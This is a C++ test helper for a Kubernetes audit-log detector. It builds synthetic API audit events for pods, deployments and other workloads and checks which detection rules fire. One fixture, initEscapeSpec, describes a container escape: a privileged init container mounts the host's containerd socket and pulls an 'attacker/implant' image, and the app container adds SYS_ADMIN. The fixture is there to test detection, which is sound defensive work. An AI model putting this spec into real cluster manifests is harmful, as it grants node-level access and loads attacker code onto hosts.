#include "test/controller/detect/detect_test_util.h"

#include <catch2/catch.hpp>
#include <cstdio>

#include "policies/loader.h"
#include "test/test_util.h"

namespace kc::audit::detect_test {

std::shared_ptr<const policy::PolicySet> defaultPolicies() {
  static const std::shared_ptr<const policy::PolicySet> set = [] {
    std::vector<policy::PolicyFile> files;
    for (const char* name : {"images.yaml", "pod-security.yaml", "workloads.yaml"}) {
      const std::string path = std::string(KC_SOURCE_DIR) + "/policies/defaults/" + name;
      files.push_back({path, kc::testing::readFile(path)});
    }
    auto r = policy::loadPolicies(files);
    REQUIRE(r.ok());
    return r.policies;
  }();
  return set;
}

std::string Ev::str() const {
  json objectRef = {{"resource", resource}, {"apiVersion", apiVersion}};
  if (!ns.empty()) objectRef["namespace"] = ns;
  if (!name.empty()) objectRef["name"] = name;
  if (!apiGroup.empty()) objectRef["apiGroup"] = apiGroup;
  if (!subresource.empty()) objectRef["subresource"] = subresource;
  json e = {{"kind", "Event"},
            {"apiVersion", "audit.k8s.io/v1"},
            {"level", level},
            {"auditID", auditID},
            {"stage", stage},
            {"requestURI", uri},
            {"verb", verb},
            {"user", {{"username", user}, {"groups", groups}}},
            {"sourceIPs", {"10.0.12.7"}},
            {"userAgent", userAgent},
            {"objectRef", objectRef},
            {"responseStatus", {{"metadata", json::object()}, {"code", code}}},
            {"requestReceivedTimestamp", time},
            {"stageTimestamp", time},
            {"annotations", annotations}};
  if (!requestObject.is_null()) e["requestObject"] = requestObject;
  if (!responseObject.is_null()) e["responseObject"] = responseObject;
  if (!impersonated.is_null()) e["impersonatedUser"] = impersonated;
  return e.dump();
}

std::string at(int day, int hour) {
  char buf[40];
  std::snprintf(buf, sizeof buf, "2026-01-%02dT%02d:00:00.000000Z", day, hour);
  return buf;
}

std::vector<Finding> feed(Detector& d, const std::string& doc) {
  EventParser parser;
  std::vector<Finding> out;
  ParseStats stats = parser.parse(doc, [&](const Event& e) { d.onEvent(e, out); });
  REQUIRE(stats.rejectedTotal() == 0);
  REQUIRE(stats.events >= 1);
  return out;
}

const Finding* rule(const std::vector<Finding>& fs, std::string_view id) {
  for (const auto& f : fs) {
    if (f.rule == id) return &f;
  }
  return nullptr;
}

std::vector<std::string> rules(const std::vector<Finding>& fs) {
  std::vector<std::string> r;
  for (const auto& f : fs) r.push_back(f.rule);
  return r;
}

json podTemplateSpec(const std::string& image, json extraSpec, json container) {
  json c = {{"name", "app"},
            {"image", image},
            {"ports", {{{"containerPort", 8080}, {"protocol", "TCP"}}}},
            {"resources", json::object()},
            {"terminationMessagePath", "/dev/termination-log"},
            {"imagePullPolicy", "IfNotPresent"}};
  c.update(container);
  json spec = {{"containers", {c}},
               {"restartPolicy", "Always"},
               {"dnsPolicy", "ClusterFirst"},
               {"serviceAccountName", "default"},
               {"securityContext", json::object()},
               {"schedulerName", "default-scheduler"}};
  spec.update(extraSpec);
  return spec;
}

json deployment(const std::string& ns, const std::string& name, const std::string& uid,
                const std::string& image) {
  return {{"kind", "Deployment"},
          {"apiVersion", "apps/v1"},
          {"metadata",
           {{"name", name},
            {"namespace", ns},
            {"uid", uid},
            {"resourceVersion", "48211"},
            {"generation", 1},
            {"creationTimestamp", "2026-01-10T09:00:00Z"},
            {"labels", {{"app", name}}}}},
          {"spec",
           {{"replicas", 1},
            {"selector", {{"matchLabels", {{"app", name}}}}},
            {"template",
             {{"metadata", {{"labels", {{"app", name}}}}}, {"spec", podTemplateSpec(image)}}},
            {"strategy", {{"type", "RollingUpdate"}}}}},
          {"status", json::object()}};
}

json replicaSet(const std::string& ns, const std::string& name, const std::string& uid,
                const std::string& ownerName, const std::string& ownerUid,
                const std::string& image) {
  return {
      {"kind", "ReplicaSet"},
      {"apiVersion", "apps/v1"},
      {"metadata",
       {{"name", name},
        {"namespace", ns},
        {"uid", uid},
        {"labels", {{"app", ownerName}, {"pod-template-hash", "6d4cf56db6"}}},
        {"annotations", {{"deployment.kubernetes.io/revision", "1"}}},
        {"ownerReferences",
         {{{"apiVersion", "apps/v1"},
           {"kind", "Deployment"},
           {"name", ownerName},
           {"uid", ownerUid},
           {"controller", true},
           {"blockOwnerDeletion", true}}}}}},
      {"spec",
       {{"replicas", 1},
        {"selector", {{"matchLabels", {{"app", ownerName}}}}},
        {"template",
         {{"metadata", {{"labels", {{"app", ownerName}}}}}, {"spec", podTemplateSpec(image)}}}}}};
}

json pod(const std::string& ns, const std::string& name, const std::string& uid,
         const std::string& image, json owner, json extraSpec, json container) {
  json md = {{"name", name}, {"namespace", ns}, {"uid", uid}, {"labels", {{"app", "x"}}}};
  if (!owner.is_null()) md["ownerReferences"] = {owner};
  return {{"kind", "Pod"},
          {"apiVersion", "v1"},
          {"metadata", md},
          {"spec", podTemplateSpec(image, extraSpec, container)},
          {"status", {{"phase", "Pending"}, {"qosClass", "BestEffort"}}}};
}

json ownerRef(const std::string& kind, const std::string& name, const std::string& uid) {
  return {{"apiVersion", kind == "ReplicaSet" ? "apps/v1" : "batch/v1"},
          {"kind", kind},
          {"name", name},
          {"uid", uid},
          {"controller", true},
          {"blockOwnerDeletion", true}};
}

// A Deployment created by `user`, then its ReplicaSet and Pod created by the controllers.
std::vector<Finding> rollOut(Detector& d, const std::string& user, const std::string& ns,
                             const std::string& name, const std::string& image, int day,
                             const std::string& tag) {
  std::vector<Finding> all;
  auto add = [&](std::vector<Finding> fs) { all.insert(all.end(), fs.begin(), fs.end()); };
  json dep = deployment(ns, name, "dep-" + tag, image);
  Ev e;
  e.auditID = "a-dep-" + tag;
  e.uri = "/apis/apps/v1/namespaces/" + ns + "/deployments?fieldManager=kubectl-create";
  e.user = user;
  e.resource = "deployments";
  e.apiGroup = "apps";
  e.ns = ns;
  e.name = name;
  e.requestObject = dep;
  e.responseObject = dep;
  e.time = at(day);
  add(feed(d, e.str()));

  const std::string rsName = name + "-6d4cf56db6";
  json rs = replicaSet(ns, rsName, "rs-" + tag, name, "dep-" + tag, image);
  Ev r;
  r.auditID = "a-rs-" + tag;
  r.uri = "/apis/apps/v1/namespaces/" + ns + "/replicasets";
  r.user = "system:serviceaccount:kube-system:deployment-controller";
  r.groups = {"system:serviceaccounts", "system:serviceaccounts:kube-system",
              "system:authenticated"};
  r.userAgent = kKcmPrefix + "system:serviceaccount:kube-system:deployment-controller";
  r.resource = "replicasets";
  r.apiGroup = "apps";
  r.ns = ns;
  r.name = rsName;
  r.requestObject = rs;
  r.responseObject = rs;
  r.time = at(day);
  add(feed(d, r.str()));

  json p =
      pod(ns, rsName + "-x7k2p", "pod-" + tag, image, ownerRef("ReplicaSet", rsName, "rs-" + tag));
  Ev pe;
  pe.auditID = "a-pod-" + tag;
  pe.uri = "/api/v1/namespaces/" + ns + "/pods";
  pe.user = "system:serviceaccount:kube-system:replicaset-controller";
  pe.groups = r.groups;
  pe.userAgent = kKcmPrefix + "system:serviceaccount:kube-system:replicaset-controller";
  pe.resource = "pods";
  pe.ns = ns;
  pe.requestObject = p;
  pe.responseObject = p;
  pe.time = at(day);
  add(feed(d, pe.str()));
  return all;
}

const std::vector<PodCarryingKind> kPodCarryingKinds = {
    {"Pod", "pods", ""},
    {"Deployment", "deployments", "apps"},
    {"ReplicaSet", "replicasets", "apps"},
    {"StatefulSet", "statefulsets", "apps"},
    {"DaemonSet", "daemonsets", "apps"},
    {"Job", "jobs", "batch"},
    {"CronJob", "cronjobs", "batch"},
    {"ReplicationController", "replicationcontrollers", ""},
    {"PodTemplate", "podtemplates", ""},
};

// A container as the apiserver returns it (defaults filled in), with `extra` merged in.
json fullContainer(const std::string& name, const std::string& image, json extra) {
  json c = {{"name", name},
            {"image", image},
            {"resources", json::object()},
            {"terminationMessagePath", "/dev/termination-log"},
            {"terminationMessagePolicy", "File"},
            {"imagePullPolicy", "IfNotPresent"}};
  c.update(extra);
  return c;
}

// A pod spec whose privileged init container reaches the node's containerd through its socket
// mounted from the host, and whose app container adds SYS_ADMIN.
json initEscapeSpec(const std::string& restartPolicy, const std::string& initImage) {
  const json mount = {{"name", "containerd-sock"},
                      {"mountPath", "/run/containerd/containerd.sock"}};
  json init = fullContainer(
      "init-setup", initImage,
      {{"command", {"/bin/sh", "-c", "ctr -n k8s.io images pull docker.io/attacker/implant:1"}},
       {"securityContext", {{"privileged", true}}},
       {"volumeMounts", {mount}}});
  json app = fullContainer("app", "registry.example.com/shop/web:1.4.2",
                           {{"ports", {{{"containerPort", 8080}, {"protocol", "TCP"}}}},
                            {"securityContext", {{"capabilities", {{"add", {"SYS_ADMIN"}}}}}}});
  return {{"initContainers", {init}},
          {"containers", {app}},
          {"volumes",
           {{{"name", "containerd-sock"},
             {"hostPath", {{"path", "/var/run/containerd/containerd.sock"}, {"type", "Socket"}}}}}},
          {"restartPolicy", restartPolicy},
          {"terminationGracePeriodSeconds", 30},
          {"dnsPolicy", "ClusterFirst"},
          {"serviceAccountName", "default"},
          {"securityContext", json::object()},
          {"schedulerName", "default-scheduler"}};
}

// An object of kind `k` carrying `spec` as its pod spec, nested where that kind keeps it. As
// submitted (`admitted` false: no uid, no server fields) or as admitted (responseObject).
json podCarryingObject(const PodCarryingKind& k, const std::string& ns, const std::string& name,
                       const std::string& uid, const json& spec, bool admitted) {
  const std::string apiVersion = k.apiGroup.empty() ? "v1" : k.apiGroup + "/v1";
  json md = {{"name", name}, {"namespace", ns}, {"labels", {{"app", name}}}};
  if (admitted) {
    md["uid"] = uid;
    md["resourceVersion"] = "731904";
    md["creationTimestamp"] = "2026-01-10T09:00:00Z";
    if (k.kind != "Pod" && k.kind != "PodTemplate") md["generation"] = 1;
  }
  json labels = {{"app", name}};
  if (k.kind == "Job" && admitted) {
    labels["batch.kubernetes.io/controller-uid"] = uid;
    labels["batch.kubernetes.io/job-name"] = name;
  }
  const json tmpl = {{"metadata", {{"labels", labels}}}, {"spec", spec}};
  json o = {{"kind", k.kind}, {"apiVersion", apiVersion}, {"metadata", md}};
  const json selector = {{"matchLabels", {{"app", name}}}};
  if (k.kind == "Pod") {
    o["spec"] = spec;
    if (admitted) o["status"] = {{"phase", "Pending"}, {"qosClass", "BestEffort"}};
  } else if (k.kind == "PodTemplate") {
    o["template"] = tmpl;
  } else if (k.kind == "CronJob") {
    o["spec"] = {{"schedule", "*/10 * * * *"},
                 {"concurrencyPolicy", "Allow"},
                 {"suspend", false},
                 {"jobTemplate", {{"metadata", json::object()}, {"spec", {{"template", tmpl}}}}}};
  } else if (k.kind == "Job") {
    o["spec"] = {{"backoffLimit", 6}, {"completions", 1}, {"parallelism", 1}, {"template", tmpl}};
    if (admitted) {
      o["spec"]["selector"] = {{"matchLabels", {{"batch.kubernetes.io/controller-uid", uid}}}};
    }
  } else if (k.kind == "ReplicationController") {
    o["spec"] = {{"replicas", 1}, {"selector", {{"app", name}}}, {"template", tmpl}};
  } else {
    o["spec"] = {{"selector", selector}, {"template", tmpl}};
    if (k.kind != "DaemonSet") o["spec"]["replicas"] = 1;
    if (k.kind == "StatefulSet") o["spec"]["serviceName"] = name;
    if (k.kind == "Deployment") o["spec"]["strategy"] = {{"type", "RollingUpdate"}};
    if (k.kind == "DaemonSet") o["spec"]["updateStrategy"] = {{"type", "RollingUpdate"}};
  }
  if (admitted && k.kind != "PodTemplate") o["status"] = o.value("status", json::object());
  return o;
}

// `user` creates an object of kind `k` (the create event, as the apiserver logs it).
Ev createEvent(const PodCarryingKind& k, const std::string& ns, const std::string& name,
               const std::string& uid, const json& spec, const std::string& user) {
  Ev e;
  e.auditID = "a-create-" + k.resource;
  e.uri = (k.apiGroup.empty() ? "/api/v1" : "/apis/" + k.apiGroup + "/v1") + "/namespaces/" + ns +
          "/" + k.resource + "?fieldManager=kubectl-create&fieldValidation=Strict";
  e.user = user;
  e.resource = k.resource;
  e.apiGroup = k.apiGroup;
  e.ns = ns;
  e.name = name;
  e.requestObject = podCarryingObject(k, ns, name, uid, spec, false);
  e.responseObject = podCarryingObject(k, ns, name, uid, spec, true);
  return e;
}

Ev shopExec(const std::string& id, const std::string& user) {
  Ev e;
  e.auditID = id;
  e.stage = "ResponseStarted";
  e.code = 101;
  e.uri = "/api/v1/namespaces/shop/pods/web/exec?command=ls&container=app";
  e.user = user;
  e.resource = "pods";
  e.subresource = "exec";
  e.ns = "shop";
  e.name = "web";
  e.level = "Metadata";
  return e;
}

std::vector<Finding> createDeployment(Detector& d, const std::string& ns, const std::string& name,
                                      const std::string& user, const std::string& id) {
  Ev e;
  e.auditID = id;
  e.user = user;
  e.resource = "deployments";
  e.apiGroup = "apps";
  e.ns = ns;
  e.responseObject = deployment(ns, name, "uid-" + id, "registry.example.com/x:1");
  return feed(d, e.str());
}

Ev podCreation(const std::string& ns, const std::string& name, const std::string& user,
               const std::string& image, json extraSpec, json container) {
  const json p =
      pod(ns, name, "uid-" + name, image, nullptr, std::move(extraSpec), std::move(container));
  Ev e;
  e.auditID = "a-" + name;
  e.uri = "/api/v1/namespaces/" + ns + "/pods";
  e.user = user;
  e.resource = "pods";
  e.ns = ns;
  e.name = name;
  e.requestObject = p;
  e.responseObject = p;
  return e;
}

std::vector<Finding> createPod(Detector& d, const std::string& ns, const std::string& name,
                               const std::string& user, const std::string& image, json extraSpec,
                               json container) {
  return feed(d,
              podCreation(ns, name, user, image, std::move(extraSpec), std::move(container)).str());
}

std::vector<Finding> writeWithoutBody(Detector& d, const std::string& id, const std::string& verb,
                                      const std::string& user, const std::string& apiGroup,
                                      const std::string& resource, const std::string& ns,
                                      const std::string& name) {
  Ev e;
  e.auditID = id;
  e.verb = verb;
  e.code = verb == "create" ? 201 : 200;
  e.level = "Metadata";
  e.user = user;
  e.apiGroup = apiGroup;
  e.resource = resource;
  e.ns = ns;
  e.name = name;
  e.uri = "/apis/" + apiGroup + "/v1/namespaces/" + ns + "/" + resource +
          (verb == "create" ? "" : "/" + name);
  return feed(d, e.str());
}

}  // namespace kc::audit::detect_test
